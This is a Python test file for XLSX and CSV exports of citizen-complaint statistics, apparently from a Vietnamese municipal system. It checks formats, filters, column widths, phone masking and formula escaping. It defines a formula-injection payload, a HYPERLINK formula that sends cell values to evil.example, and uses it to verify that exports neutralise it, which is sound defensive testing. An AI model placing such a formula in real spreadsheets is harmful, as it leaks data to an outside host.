"""XLSX exports leadership can use: real dates and numbers, frozen headers, filters, widths."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import date, datetime

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from domain.catalogue import t
from reporting.cells import MAX_WIDTH
from reporting.export import XlsxBuilder, csv_chunk, fill_list, summary_workbook, tables_csv
from reporting.figures import load
from reporting.tables import all_tables
from storage.database import Database
from storage.stats_queries import ExportRow, StatsFilter
from tests.reporting.seed import NOW, PERIOD_END, PERIOD_START, SPECS, seed, vn

PERIOD = StatsFilter(start=PERIOD_START, end=PERIOD_END)
INJECTION = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Xem ảnh")'


def _row_of(sheet: Worksheet, label: str) -> int:
    for row in range(1, sheet.max_row + 1):
        if sheet.cell(row, 1).value == label:
            return row
    raise AssertionError(f"{label!r} not in {sheet.title}")


async def test_summary_workbook_has_numbers_dates_filters_and_widths(
    sessions: async_sessionmaker[AsyncSession], db: Database
) -> None:
    await seed(sessions, SPECS)
    fig = await load(db, PERIOD, NOW)
    book = load_workbook(io.BytesIO(summary_workbook(fig).to_bytes()))

    summary = book[t("stats_sheet_summary")]
    on_time = summary.cell(_row_of(summary, t("stats_accept_on_time")), 2)
    assert on_time.data_type == "n" and on_time.number_format == "0.0%"
    assert on_time.value == fig.accept.on_time_rate and 0 < on_time.value < 1
    detail = summary.cell(_row_of(summary, t("stats_accept_on_time")), 3).value
    assert summary.cell(2, 3).value == t("stats_col_detail")
    assert detail == t("stats_ratio_detail", good=fig.accept.on_time, total=fig.accept.due)
    median = summary.cell(_row_of(summary, t("stats_resolve_median")), 2)
    assert median.data_type == "n" and median.value == fig.resolve.median_hours
    assert median.number_format.startswith("0.0") and "giờ" in median.number_format
    rating = summary.cell(_row_of(summary, t("stats_rating")), 2)
    assert rating.data_type == "n" and rating.number_format == "0.00" and rating.value == 4.0

    weekly = book[t("stats_sheet_weekly")]
    monday = weekly.cell(3, 2)
    assert monday.is_date and monday.number_format == "dd/mm/yyyy"
    assert isinstance(monday.value, datetime) and monday.value.weekday() == 0

    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A3", sheet.title  # title row, then the header row
        assert sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A2:")
        widths = [d.width for d in sheet.column_dimensions.values()]
        assert widths and all(6 <= w <= MAX_WIDTH for w in widths), sheet.title
    categories = book[t("stats_sheet_categories")]
    assert (
        categories.auto_filter.ref
        == f"A2:{categories.cell(2, categories.max_column).column_letter}{categories.max_row}"
    )
    # The category column is wider than the narrow count columns, from the content.
    assert categories.column_dimensions["A"].width > categories.column_dimensions["B"].width

    # Pages and CSV still read Vietnamese notation.
    csv_text = tables_csv(all_tables(fig)).decode("utf-8-sig")
    on_time = f"{t('stats_percent', value='60,0')} ({t('stats_ratio_detail', good=3, total=5)})"
    assert f'{t("stats_accept_on_time")},"{on_time}"' in csv_text
    assert f'{t("stats_resolve_median")},"{t("stats_hours", value="60,0")}"' in csv_text


def _export_row(number: int, text: str) -> ExportRow:
    return ExportRow(
        id=number,
        code=f"PA-2603-{number:04d}",
        created_at=vn(3, 2, 8),
        category="giao_thong",
        urgency="binh_thuong",
        status="da_giai_quyet",
        place_code="7210",
        place_name=None,
        place_text="Đầu ngõ 5 đường Lê Lợi, gần chợ",
        text=text,
        anonymous=False,
        accept_due_at=vn(3, 2, 16),
        resolve_due_at=vn(3, 13, 17),
        accepted_at=vn(3, 2, 10),
        resolved_at=None,
        assigned_unit="UBND phường",
        rating=5,
        fixed_confirmed=True,
    )


async def _batches(rows: list[ExportRow]) -> AsyncIterator[list[ExportRow]]:
    yield rows[:1]
    yield rows[1:]


async def test_list_sheet_dates_text_cells_filter_and_widths() -> None:
    long_text = "Ổ gà rất lớn giữa đường " * 20
    rows = [_export_row(1, long_text), _export_row(2, INJECTION), _export_row(3, "Đèn hỏng")]
    builder = XlsxBuilder()
    assert await fill_list(builder, _batches(rows)) == 3
    builder.note(t("stats_export_truncated", limit=3))
    book = load_workbook(io.BytesIO(builder.to_bytes()))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    created = sheet.cell(2, header.index(t("stats_col_created")) + 1)
    assert created.is_date and created.number_format == "dd/mm/yyyy hh:mm"
    assert created.value == datetime(2026, 3, 2, 8, 0)  # Vietnam wall-clock time
    resolved = sheet.cell(2, header.index(t("stats_col_resolved")) + 1)
    assert resolved.value is None
    text = sheet.cell(3, header.index(t("stats_col_text")) + 1)
    assert text.data_type == "s" and text.value == INJECTION  # stays text, never a formula
    assert sheet.cell(2, header.index(t("stats_col_rating")) + 1).data_type == "n"

    assert sheet.freeze_panes == "A2"
    last = sheet.cell(1, len(header)).column_letter
    assert sheet.auto_filter.ref == f"A1:{last}4"  # three reports; the note stays outside
    text_letter = text.column_letter
    code_letter = sheet.cell(1, 1).column_letter
    assert sheet.column_dimensions[text_letter].width == MAX_WIDTH  # capped
    assert 12 <= sheet.column_dimensions[code_letter].width < 20  # "PA-2603-0001"


async def test_csv_writes_vietnamese_notation_and_escapes_formulas() -> None:
    day = replace(_export_row(1, INJECTION))
    body = csv_chunk([[day.code, day.created_at.replace(tzinfo=None), date(2026, 3, 9), INJECTION]])
    text = body.decode("utf-8")
    assert "02/03/2026 08:00" in text and "09/03/2026" in text
    assert "'=HYPERLINK" in text


def test_phone_numbers_in_every_common_format_are_masked_in_exports() -> None:
    from domain.catalogue import t
    from reporting.export import mask_phones

    text = "Gọi (+84) 912 345 678 hoặc (091) 234 5678 hay 0912.345.678, cảm ơn"
    masked = mask_phones(text)
    assert masked.count(t("stats_redacted")) == 3
    assert "345" not in masked and "234" not in masked and masked.endswith("cảm ơn")
